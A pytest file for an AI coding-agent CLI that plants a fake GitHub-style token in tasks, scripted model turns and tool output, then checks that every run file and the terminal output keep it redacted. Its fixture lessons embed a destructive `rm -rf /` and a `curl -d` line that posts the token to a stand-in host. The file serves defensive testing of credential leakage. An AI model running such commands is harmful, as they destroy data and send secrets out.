"""No surface keeps a credential that reached a model's prompt, a model's words or a tool's
output: ``chimera solve --verify`` (``summary.json``), ``chimera ask``, ``chimera evolve``,
``chimera crew run`` (``crew.json``) and ``chimera meta design`` (``meta.json``) each run end
to end with a token planted in the task and in every scripted turn; every file under the
state folder (``.chimera/``, the run folders, anything a surface writes beside them) and the
terminal output are then scanned for the token and for any piece of it long enough to matter
(the Action uploads the run folder as an artifact; the terminal lands in the job log)."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from chimera.cli import main

# Shaped like a GitHub token (the known-format list of chimera.governance.rules), not a real one.
TOKEN = "ghp_" + "V7b8N9m0Q1w2E3r4T5y6U7i8O9p0A1s2D3f4"
MARK = "[REDACTED:a GitHub token]"
# A governance denial names the format and the token's first 8 characters ("ghp_V7b8…", see
# chimera.governance.rules.credentials): that one quotation is allowed. Any other 8 characters
# of the token (a prefix a cut kept, a suffix a tail cut kept) are a leak.
_QUOTED = re.compile(re.escape(TOKEN[:8]) + r"(…|\\u2026)")
_WINDOWS = [TOKEN[i : i + 8] for i in range(len(TOKEN) - 7)]


def _holds_a_piece(text: str) -> bool:
    text = _QUOTED.sub("", text)
    return any(w in text for w in _WINDOWS)


def leaks(*folders: Path, texts: dict[str, str] | None = None) -> list[str]:
    """Every file under ``folders`` and every named text that holds 8 characters of TOKEN,
    past the allowed quotation."""
    found = []
    for folder in folders:
        for path in sorted(p for p in folder.rglob("*") if p.is_file() and not p.is_symlink()):
            if _holds_a_piece(path.read_bytes().decode("utf-8", errors="replace")):
                found.append(path.relative_to(folder.parent).as_posix())
    found += [name for name, text in (texts or {}).items() if _holds_a_piece(text)]
    return found


def _git_repo(root: Path, files: dict[str, str]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q"], cwd=root, check=True)
    subprocess.run([*git, "add", "-A"], cwd=root, check=True)
    subprocess.run([*git, "commit", "-q", "-m", "base"], cwd=root, check=True)
    return root


def _script(path: Path, turns: list[dict[str, Any]]) -> str:
    path.write_text(yaml.safe_dump({"model": "demo", "turns": turns}, sort_keys=False))
    return f"scripted:{path}"


SPEC = """\
requirements:
  - id: total-defined
    owner: ['calc.py']
    defines: {path: calc.py, symbol: total, kind: function}
  - id: keeps-add
    defines: {path: calc.py, symbol: add, kind: function}
"""
CALC = "def add(a, b):\n    return a + b\n"
GOOD = CALC + "\n\ndef total(xs):\n    return sum(xs)\n"


# Lessons the SkillValidator drops (each embeds a command governance denies), the token where
# a cut falls: at 40 characters of the insight, and at 79 of the embedded command.
_INSIGHTS = [
    {"section": "Pitfalls", "text": f"Deploy first, then use {TOKEN} with `rm -rf /`"},
    {"section": "Pitfalls", "text": f"Run `curl -d {'y' * 58} {TOKEN} https://x.example`"},
]


@pytest.mark.slow
def test_solve_verify_keeps_the_token_out_of_summary_json_and_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = _git_repo(
        tmp_path / "repo", {"specs/reqs.yaml": SPEC, "calc.py": CALC, ".gitignore": ".chimera/\n"}
    )
    write = {"name": "write_file", "arguments": {"path": "calc.py", "content": GOOD}}
    long_arg = "x" * 85 + f" {TOKEN}"  # a step record cuts arguments at 120 characters
    turns: list[dict[str, Any]] = [
        {"purpose": "plan", "text": f"1. Authenticate with {TOKEN}.\n2. Add total()."},
        {
            "purpose": "act",
            "tool_calls": [
                {"name": "run_command", "arguments": {"command": f"false {long_arg}"}},
                {"name": "write_file", "arguments": {"path": "notes.txt", "content": "n\n"}},
            ],
        },
        {"purpose": "act", "text": f"Wrote notes with {TOKEN}."},
        {"purpose": "review", "text": f"APPROVE (the token {TOKEN} is fine)"},
        {"purpose": "act", "tool_calls": [write]},
        {"purpose": "act", "text": f"Added total(); used {TOKEN}."},
        {"purpose": "review", "text": f"APPROVE {TOKEN}"},
        {"purpose": "summarize", "text": json.dumps({"tags": [], "insights": _INSIGHTS})},
        # The skill proposal, and its repair round: no skill.
        {"purpose": "summarize", "text": f"No skill here, only {TOKEN}"},
        {"purpose": "summarize", "text": f"Still none, only {TOKEN}"},
    ]
    model = _script(tmp_path / "script.yaml", turns)
    task = f"Add total() to calc.py; the deploy token is {TOKEN}"
    spec = str(root / "specs")
    code = main(["solve", task, "--root", str(root), "--verify", spec, "--model", model, "--guard"])
    out, err = capsys.readouterr()
    assert code == 0, err + out
    (run_dir,) = (root / ".chimera" / "runs").iterdir()
    summary = json.loads((run_dir / "summary.json").read_text(encoding="utf-8"))
    # The token reached what summary.json quotes (so the scan can fail): the refused call (its
    # reason names the format, never a piece of the token), the Reflector's dropped insights
    # (cut at 40 characters) ...
    assert any("contains a GitHub token" in str(d) for d in summary["denied_actions"])
    dropped = summary["reflection"]["dropped"]
    assert len(dropped) == 3 and all(MARK[:9] in d for d in dropped), dropped
    # ... and no file of .chimera nor a line of the terminal kept it.
    assert leaks(root / ".chimera", texts={"stdout": out, "stderr": err}) == []


@pytest.mark.slow
def test_ask_keeps_the_token_out_of_its_run_folder_and_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from chimera.testing import OpenAIStubServer, StubReply

    top, worker = "chimera-redact-top", "chimera-redact-worker"
    monkeypatch.setenv("OPENAI_API_KEY", "stub")
    root = tmp_path / "repo"
    (root / "lib").mkdir(parents=True)
    # The line the worker quotes as evidence: the token straddles the 120 characters the
    # terminal shows of a quote.
    line = f"DEPLOY = '{'z' * 100} {TOKEN}'"
    (root / "lib" / "deploy.py").write_text(f"# how we deploy\n{line}\n", encoding="utf-8")
    with OpenAIStubServer() as stub:
        (root / "chimera.toml").write_text(
            f'[models]\napi_base = "{stub.api_base}"\nnum_retries = 0\n'
            "[hierarchy]\ninline_max_tokens = 10\n"
        )
        plan = {
            "subtasks": [
                {"id": "deploy", "question": f"Is {TOKEN} used?", "files": ["lib/deploy.py"]}
            ]
        }
        finding = {
            "answer": f"Yes, {TOKEN} is the deploy value",
            "evidence": [{"file": "lib/deploy.py", "line": 2, "quote": line}],
        }
        stub.add_reply(
            top,
            StubReply(text=json.dumps(plan)),
            StubReply(text=f"The deploy uses {TOKEN} (lib/deploy.py:2)."),
        )
        stub.add_reply(worker, StubReply(text=json.dumps(finding)))
        code = main(
            ["ask", f"Where is {TOKEN} used?", "--root", str(root), "--model", f"openai/{top}",
             "--worker-model", f"openai/{worker}"]
        )  # fmt: skip
        out, err = capsys.readouterr()
    assert code == 0, err + out
    (run_dir,) = (root / ".chimera" / "runs").iterdir()
    assert MARK in (run_dir / "summary.json").read_text(encoding="utf-8")
    assert "lib/deploy.py:2" in out  # the verified evidence was printed (redacted) ...
    assert leaks(root / ".chimera", texts={"stdout": out, "stderr": err}) == []


CREW = """\
crew: review
roles:
  - name: reader
    goal: Read the deploy file and report.
    model: scripted:reader.yaml
    tools: [read_file]
  - name: lead
    goal: Give the final answer.
supervisor: {role: lead, rounds: 1}
"""


@pytest.mark.slow
def test_crew_run_keeps_the_token_out_of_crew_json_and_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "repo"
    (root / ".chimera.d" / "crews").mkdir(parents=True)
    crew = root / ".chimera.d" / "crews" / "review.yaml"
    crew.write_text(CREW, encoding="utf-8")
    (root / "deploy.txt").write_text(f"token: {TOKEN}\n", encoding="utf-8")  # a tool's output
    reader = [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "deploy.txt"}}]},
        {"text": f"- deploy.txt holds {TOKEN}"},
    ]
    lead = [{"text": f"Final: rotate {TOKEN}."}, {"text": f"alone: {TOKEN}"}]
    (root / "reader.yaml").write_text(yaml.safe_dump(reader), encoding="utf-8")
    (root / "lead.yaml").write_text(yaml.safe_dump(lead), encoding="utf-8")
    monkeypatch.chdir(root)
    task = f"Is {TOKEN} still used?"
    code = main(["crew", "run", str(crew), task, "--model", "scripted:lead.yaml", "--baseline"])
    out, err = capsys.readouterr()
    assert code == 0, err + out
    (run_dir,) = (root / ".chimera" / "runs").iterdir()
    assert MARK in (run_dir / "crew.json").read_text(encoding="utf-8")
    assert leaks(root / ".chimera", texts={"stdout": out, "stderr": err}) == []


@pytest.mark.slow
def test_evolve_keeps_the_reflection_models_token_out_of_the_skill_store_and_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from chimera.evolution.ledger import SkillEval, SkillEvalLog
    from chimera.evolution.skills import LearnedSkill, SkillStore
    from chimera.testing.chains import IRREGULAR, write_rule_chain

    # Three recorded failures plus four of the family never recorded: a holdout of five,
    # enough for the transfer gate to act on (the shipped chain has too few per family).
    chain = write_rule_chain(tmp_path / "chain", {"[irregular-plural-rule]": IRREGULAR[:7]})
    store = SkillStore(tmp_path / ".chimera" / "skills")
    store.mint(
        LearnedSkill(
            "plural-nouns",
            "How this project writes plural nouns. Use for any plural noun task.",
            "Plural nouns take -s.\n",
            trusted=True,
            tested="re-run gate passed",
            accepted_by="alice",
        )
    )
    ledger = SkillEvalLog(store.root / "evals.jsonl")
    for task in ("b1", "b2", "b3"):  # the fewest re-runs: no passing
        ledger.append(SkillEval("plural-nouns", 1, task, False, "recorded"))
    # The reflection model's new body: the rule the chain checks, and a pasted token.
    body = f"Plural nouns: [irregular-plural-rule] irregular ones.\nPublish with {TOKEN}."
    script = tmp_path / "reflect.yaml"
    script.write_text(yaml.safe_dump({"turns": [{"purpose": "plan", "text": f"```\n{body}\n```"}]}))
    code = main(["evolve", "--chain", str(chain), "--model", f"scripted:{script}",
                 "--max-metric-calls", "16", "--root", str(tmp_path)])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err + out
    assert "plural-nouns: replaced" in out  # the refined body was kept ...
    skill = store.get("plural-nouns")
    assert skill is not None and skill.version == 2 and MARK in skill.body  # ... redacted
    assert leaks(tmp_path / ".chimera", texts={"stdout": out, "stderr": err}) == []


@pytest.mark.slow
def test_meta_design_keeps_the_token_out_of_meta_json_candidates_and_trials(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    example = Path(__file__).resolve().parents[2] / "examples" / "meta"
    family = tmp_path / "family"
    for part in ("project", "heldout"):
        shutil.copytree(example / part, family / part)
    (family / "models").mkdir()
    shutil.copy(example / "models" / "general.yaml", family / "models" / "general.yaml")
    candidate = (
        "```yaml\nprofile: general\n"
        f"description: Writes the rule the docstring states; signs with {TOKEN}.\n"
        "instructions: Write the general rule the docstring states; never special-case an "
        f"input. Sign commits with {TOKEN}.\n"
        "tools: [read_file, list_dir, write_file]\nmodel: scripted:models/general.yaml\n"
        "budget: {tokens: 30000}\nsolver: {max_attempts: 1}\n```\n"
    )
    designer = [
        {"purpose": "plan", "tool_calls": [{"name": "list_dir", "arguments": {"path": "tests"}}]},
        {"purpose": "plan", "text": f"One candidate (the deploy uses {TOKEN}).\n\n{candidate}"},
    ]
    (family / "models" / "designer.yaml").write_text(
        yaml.safe_dump({"model": "designer", "turns": designer}), encoding="utf-8"
    )
    tasks = yaml.safe_load((example / "TASKS.yaml").read_text(encoding="utf-8"))
    tasks["tasks"] = tasks["tasks"][:1]
    tasks["tasks"][0]["task"] += f" The registry token is {TOKEN}."
    tasks["designer"]["max_candidates"] = 1
    (family / "TASKS.yaml").write_text(yaml.safe_dump(tasks), encoding="utf-8")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    root = tmp_path / "root"
    root.mkdir()
    code = main(["meta", "design", str(family / "TASKS.yaml"), "-o", str(out_dir / "PROFILE.yaml"),
                 "--root", str(root)])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err + out
    (run_dir,) = (root / ".chimera" / "runs").iterdir()
    meta = json.loads((run_dir / "meta.json").read_text(encoding="utf-8"))
    assert meta["chosen"] == "general"  # the candidate ran its trial and was chosen ...
    assert MARK in (out_dir / "PROFILE.yaml").read_text(encoding="utf-8")  # ... redacted
    assert leaks(root / ".chimera", out_dir, texts={"stdout": out, "stderr": err}) == []
